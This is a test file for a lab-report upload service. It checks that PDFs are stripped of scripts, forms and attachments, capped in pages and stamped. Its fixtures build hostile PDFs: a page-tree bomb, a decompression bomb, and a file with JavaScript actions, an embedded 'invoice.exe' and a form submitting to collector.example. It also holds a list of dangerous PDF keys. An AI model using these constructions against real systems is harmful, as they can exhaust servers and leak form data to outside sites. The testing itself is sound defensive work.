import { createHash } from "node:crypto";
import { constants, deflateSync } from "node:zlib";
import {
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFName,
  PDFNumber,
  PDFRawStream,
  type PDFRef,
  PDFString,
  StandardFonts,
} from "@cantoo/pdf-lib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { insertBookingRow, pdfOf, receivedUpload, textIn, uploadAndAttach } from "../../../test/report-fixtures.ts";
import { createTestApp, multipart, type TestApp, testDialects } from "../../../test/test-app.ts";
import { createHeavyWork } from "../../lib/heavy-work.ts";
import { createReportStamper, stampReport } from "./pdf-stamp.ts";

const sha256 = (data: Buffer) => createHash("sha256").update(data).digest("hex");

/** What makes a PDF run script, act on its own, carry files or hold a form (raw names as written in a file). */
const DANGEROUS = [
  "/JavaScript",
  "/JS",
  "/OpenAction",
  "/AA",
  "/EmbeddedFile",
  "/AcroForm",
  "/SubmitForm",
  "/Annots",
  "app.alert",
  "submitForm",
];

/**
 * A 2-3 KB file whose page tree lists one node ten times at each of six levels: a million
 * pages to anything that walks it. `declaredCount` is what its root says (a file may lie).
 */
async function pageTreeBomb(declaredCount = 1_000_000): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const { context } = pdf;
  let node: PDFRef = context.register(context.obj({ Type: "Page", MediaBox: [0, 0, 595, 842] }));
  for (let level = 1, count = 10; level <= 6; level++, count *= 10) {
    node = context.register(
      context.obj({ Type: "Pages", Kids: Array<PDFRef>(10).fill(node), Count: level === 6 ? declaredCount : count }),
    );
  }
  pdf.catalog.set(PDFName.of("Pages"), node);
  // addDefaultPage would count the pages, walking the million.
  return Buffer.from(await pdf.save({ addDefaultPage: false, useObjectStreams: false }));
}

/**
 * A two-page report that runs script when opened, when closed, when its first page opens and
 * when a link is clicked; declares document JavaScript and an attachment in its name trees;
 * and holds a form whose button sends it to another site.
 */
async function scriptedPdf(): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  for (let i = 1; i <= 2; i++)
    pdf.addPage([595, 842]).drawText(`Haemoglobin 13.5 g/dL, page ${i}`, { x: 50, y: 780, size: 12, font });
  const { context, catalog } = pdf;
  const script = (code: string) =>
    context.register(context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of(code) }));

  catalog.set(PDFName.of("OpenAction"), script("app.alert('opened')"));
  catalog.set(PDFName.of("AA"), context.obj({ WC: script("app.alert('closing')") }));
  const attachment = context.register(context.flateStream("MZ not really a program", { Type: "EmbeddedFile" }));
  const fileSpec = context.register(
    context.obj({ Type: "Filespec", F: PDFString.of("invoice.exe"), EF: { F: attachment } }),
  );
  catalog.set(
    PDFName.of("Names"),
    context.obj({
      JavaScript: { Names: [PDFString.of("init"), script("app.alert('document script')")] },
      EmbeddedFiles: { Names: [PDFString.of("invoice.exe"), fileSpec] },
    }),
  );

  const submit = context.obj({ S: "SubmitForm", F: { FS: "URL", F: PDFString.of("https://collector.example/form") } });
  const button = context.register(
    context.obj({
      Type: "Annot",
      Subtype: "Widget",
      FT: "Btn",
      T: PDFString.of("send"),
      Rect: [400, 700, 500, 720],
      A: submit,
      AA: { E: script("this.submitForm('https://collector.example/')") },
    }),
  );
  const link = context.register(
    context.obj({ Type: "Annot", Subtype: "Link", Rect: [50, 760, 300, 800], A: script("app.alert('clicked')") }),
  );
  catalog.set(PDFName.of("AcroForm"), context.obj({ Fields: [button] }));
  const [first] = pdf.getPages();
  first.node.set(PDFName.of("Annots"), context.obj([button, link]));
  first.node.set(PDFName.of("AA"), context.obj({ O: script("app.alert('page opened')") }));
  return Buffer.from(await pdf.save({ useObjectStreams: false }));
}

/**
 * A one-page report carrying an object stream whose few hundred kilobytes inflate to
 * `megabytes` of spaces: pdf-lib inflates object streams as it reads the file. Packed as runs
 * (Z_RLE): as small as level 9's search for matches (255 KB for 256 MB), in a fifth of its CPU.
 */
async function inflatingPdf(megabytes: number): Promise<Buffer> {
  const packed = deflateSync(Buffer.alloc(megabytes * 1024 * 1024, 0x20), { level: 9, strategy: constants.Z_RLE });
  const report = await pdfOf(1);
  const end = report.lastIndexOf("%%EOF");
  const stream = Buffer.from(
    `999 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
    "latin1",
  );
  return Buffer.concat([
    report.subarray(0, end),
    stream,
    packed,
    Buffer.from("\nendstream\nendobj\n%%EOF\n", "latin1"),
  ]);
}

/**
 * Every object of a PDF written out as PDF syntax, after pdf-lib unpacks its compressed object
 * streams (where a raw byte search would not see a name): what any reader of the file can reach.
 */
async function objectsOf(bytes: Buffer): Promise<string> {
  const pdf = await PDFDocument.load(bytes);
  return pdf.context
    .enumerateIndirectObjects()
    .map(([, object]) => (object instanceof PDFRawStream ? object.dict.toString() : object.toString()))
    .join("\n");
}

describe.each(testDialects())("report uploads on %s", (dialect) => {
  let t: TestApp;
  let cookie: string;
  let sequence = 0;
  const booking = () => insertBookingRow(t.db, { sequence: ++sequence });

  const upload = (bookingId: string, bytes: Buffer) => {
    const form = multipart(bytes, "report.pdf", "file", "application/pdf");
    return t.app.inject({
      method: "POST",
      url: `/api/bookings/${bookingId}/reports`,
      headers: { ...form.headers, cookie },
      payload: form.payload,
    });
  };
  const reportRows = (bookingId: string) =>
    t.db.selectFrom("reports").select("id").where("booking_id", "=", bookingId).execute();

  beforeAll(async () => {
    t = await createTestApp(dialect);
    cookie = await t.login();
  });
  afterAll(() => t.close());

  it("refuses a page tree that reuses its nodes (a million pages in 3 KB) with the page limit, and answers health checks meanwhile", async () => {
    const { id } = await booking();
    const bomb = await pageTreeBomb();
    expect(bomb.length).toBeLessThan(4096);

    const [refused, health] = await Promise.all([upload(id, bomb), t.app.inject("/healthz")]);
    expect(health.statusCode).toBe(200);
    expect(refused.statusCode).toBe(400);
    expect(refused.json().issues).toEqual([
      {
        path: ["file"],
        code: "REPORT_TOO_MANY_PAGES",
        message:
          "This PDF has more than 50 pages, the most a report may have. Upload the report's own pages, or split it into parts",
        values: { maximum: 50 },
      },
    ]);

    // The same tree saying it has one page: reached twice, a node makes the file damaged.
    const lying = await upload(id, await pageTreeBomb(1));
    expect(lying.statusCode).toBe(400);
    expect(lying.json().issues).toEqual([
      {
        path: ["file"],
        code: "REPORT_PDF_UNREADABLE",
        message:
          "This PDF could not be read: it is damaged or password-protected. Save it again as a plain PDF and upload that",
      },
    ]);
    expect(await reportRows(id)).toEqual([]);
    expect((await t.app.inject("/healthz")).statusCode).toBe(200);
  });

  it("takes a report of 50 pages and refuses one of 51, naming the limit", async () => {
    const { id } = await booking();
    const refused = await upload(id, await pdfOf(51));
    expect(refused.statusCode).toBe(400);
    expect(refused.json().issues).toEqual([
      {
        path: ["file"],
        code: "REPORT_TOO_MANY_PAGES",
        message:
          "This PDF has more than 50 pages, the most a report may have. Upload the report's own pages, or split it into parts",
        values: { maximum: 50 },
      },
    ]);
    expect(await reportRows(id)).toEqual([]);

    const taken = await upload(id, await pdfOf(50));
    expect(taken.statusCode, taken.body).toBe(201);
    const stored = await t.app.inject({ url: `/api/reports/${taken.json().id}/file`, headers: { cookie } });
    expect((await PDFDocument.load(stored.rawPayload)).getPageCount()).toBe(50);
  });

  it("stores only the pages of a PDF that runs script, with the stamp; its SHA-256 is the one /verify shows", async () => {
    const { id } = await booking();
    const original = await scriptedPdf();
    // The upload as built does carry every one of them.
    const raw = original.toString("latin1");
    for (const name of DANGEROUS) expect(raw, name).toContain(name);

    const report = await uploadAndAttach(t.app, id, { headers: { cookie }, pdf: original });
    const download = await t.app.inject({ url: `/api/reports/${report.id}/file`, headers: { cookie } });
    expect(download.statusCode).toBe(200);
    const bytes = download.rawPayload;

    // Stream contents left out: compressed bytes may spell "/AA" by chance.
    const stored = bytes.toString("latin1").replace(/stream\r?\n[\s\S]*?endstream/g, "");
    const objects = await objectsOf(bytes);
    for (const name of DANGEROUS) {
      expect(stored, name).not.toContain(name);
      expect(objects, name).not.toContain(name);
    }
    const pdf = await PDFDocument.load(bytes);
    expect(
      pdf.catalog
        .keys()
        .map((key) => key.decodeText())
        .sort(),
    ).toEqual(["Pages", "Type"]);
    expect(pdf.getPageCount()).toBe(2);
    for (const page of pdf.getPages()) {
      expect(page.node.get(PDFName.of("Annots"))).toBeUndefined();
      expect(page.node.get(PDFName.of("AA"))).toBeUndefined();
    }
    const text = await textIn(bytes);
    expect(text).toContain("Haemoglobin 13.5 g/dL, page 1");
    expect(text).toContain("Haemoglobin 13.5 g/dL, page 2");
    expect(text.split(report.verifyUrl).length - 1).toBe(2); // the stamp, once per page

    expect(sha256(bytes)).toBe(report.sha256);
    expect(await t.services.reports.verify(report.verificationCode)).toMatchObject({
      sha256: sha256(bytes),
      isFileRemoved: false,
    });
  });

  it("stamps five reports sent at once, each in its turn, while a refused one does not hold up the rest", async () => {
    const { id } = await booking();
    const answers = await Promise.all(
      [pdfOf(1), pdfOf(2), pageTreeBomb(), pdfOf(3), pdfOf(4), pdfOf(5)].map(async (bytes) => upload(id, await bytes)),
    );
    expect(answers.map((answer) => answer.statusCode)).toEqual([201, 201, 400, 201, 201, 201]);
    expect((await reportRows(id)).length).toBe(5);
    // Six workers one after another on a two-core machine (one core stays with the site).
  }, 90_000);

  it("keeps what was typed into a form's fields, drawn on the page, without the form", async () => {
    const { id } = await booking();
    const pdf = await PDFDocument.create();
    const page = pdf.addPage([595, 842]);
    const field = pdf.getForm().createTextField("haemoglobin");
    field.setText("Haemoglobin 14.2 g/dL");
    field.addToPage(page, { x: 50, y: 700, width: 300, height: 24 });

    const response = await upload(id, Buffer.from(await pdf.save()));
    expect(response.statusCode, response.body).toBe(201);
    const bytes = (await t.app.inject({ url: `/api/reports/${response.json().id}/file`, headers: { cookie } }))
      .rawPayload;
    expect(await textIn(bytes)).toContain("Haemoglobin 14.2 g/dL");
    const objects = await objectsOf(bytes);
    for (const name of ["/AcroForm", "/Annots", "/Widget"]) expect(objects, name).not.toContain(name);
  });

  it("keeps what pages inherit from their tree: size, rotation and resources", async () => {
    const { id } = await booking();
    const pdf = await PDFDocument.create();
    const font = await pdf.embedFont(StandardFonts.Helvetica);
    pdf.addPage([420, 595]).drawText("Landscape scan", { x: 20, y: 20, size: 12, font });
    const [page] = pdf.getPages();
    // Moved up to the tree's root, as many scanners write them.
    const root = pdf.catalog.lookup(PDFName.of("Pages"), PDFDict);
    for (const key of ["MediaBox", "Resources"]) {
      root.set(PDFName.of(key), page.node.get(PDFName.of(key))!);
      page.node.delete(PDFName.of(key));
    }
    root.set(PDFName.of("Rotate"), PDFNumber.of(90));

    const response = await upload(id, Buffer.from(await pdf.save()));
    expect(response.statusCode, response.body).toBe(201);
    const stored = await PDFDocument.load(
      (await t.app.inject({ url: `/api/reports/${response.json().id}/file`, headers: { cookie } })).rawPayload,
    );
    const [copy] = stored.getPages();
    expect(copy.getSize()).toEqual({ width: 420, height: 595 });
    expect(copy.getRotation().angle).toBe(90);
    expect(copy.node.Resources()?.lookup(PDFName.of("Font"), PDFDict).keys().length).toBeGreaterThanOrEqual(1);
    expect(copy.node.lookup(PDFName.of("MediaBox"), PDFArray).size()).toBe(4);
  });
});

describe("stamping past its limits of time and memory", () => {
  const stamp = { verifyUrl: "https://lab.example/verify/ABCDEFGHJKMNPQRST", labName: "Lab" };
  const limits = { maxPages: 50, timeLimitMs: 60_000, memoryLimitMb: 768 };
  const work = createHeavyWork({ maxQueue: 1 });
  const stamper = createReportStamper();
  afterAll(() => stamper.close());
  /** Stamps `bytes` as an upload is stamped: from a file of its own, in its turn. */
  const stampBytes = async (bytes: Buffer, given: typeof limits) => {
    const file = await receivedUpload(bytes)();
    try {
      return (await stampReport(file.path, stamp, given, work, stamper)).bytes;
    } finally {
      await file.remove();
    }
  };

  it("is refused with a message staff can act on when it runs past its time, and the next upload is stamped as usual", async () => {
    // No worker starts, loads pdf-lib and reads a file within a millisecond.
    const startedBefore = stamper.started;
    await expect(stampBytes(await pdfOf(1), { ...limits, timeLimitMs: 1 })).rejects.toMatchObject({
      statusCode: 400,
      code: "REPORT_PDF_TOO_COMPLEX",
      message:
        'This PDF is too complex to read: it took too long or too much memory. Save it again as a plain PDF (for example with "Print to PDF") and upload that',
      issues: [{ path: ["file"], code: "REPORT_PDF_TOO_COMPLEX" }],
    });
    const stamped = await stampBytes(await pdfOf(1), limits);
    expect((await textIn(stamped)).includes(stamp.verifyUrl)).toBe(true);
    // The worker that ran past its time was killed, not handed the next file: that one got a new worker.
    expect(stamper.started).toBe(startedBefore + 2);
  });

  it("keeps its worker between uploads, so each does not pay for starting one and loading pdf-lib", async () => {
    const startedBefore = stamper.started;
    for (const pages of [1, 2, 3]) {
      const stamped = await stampBytes(await pdfOf(pages), limits);
      expect((await PDFDocument.load(stamped)).getPageCount()).toBe(pages);
      expect((await textIn(stamped)).includes(stamp.verifyUrl)).toBe(true);
    }
    expect(stamper.started).toBeLessThanOrEqual(startedBefore + 1);
  });

  it("is refused when a small file inflates past the memory limit (outside the worker's heap)", async () => {
    const bomb = await inflatingPdf(256);
    expect(bomb.length).toBeLessThan(1024 * 1024);
    await expect(stampBytes(bomb, { ...limits, memoryLimitMb: 64 })).rejects.toMatchObject({
      statusCode: 400,
      code: "REPORT_PDF_TOO_COMPLEX",
      message:
        'This PDF is too complex to read: it took too long or too much memory. Save it again as a plain PDF (for example with "Print to PDF") and upload that',
      issues: [{ path: ["file"], code: "REPORT_PDF_TOO_COMPLEX" }],
    });
    // Making the file and filling the worker's memory took 26-36 s on two cores at a load of 10-23.
  }, 90_000);
});
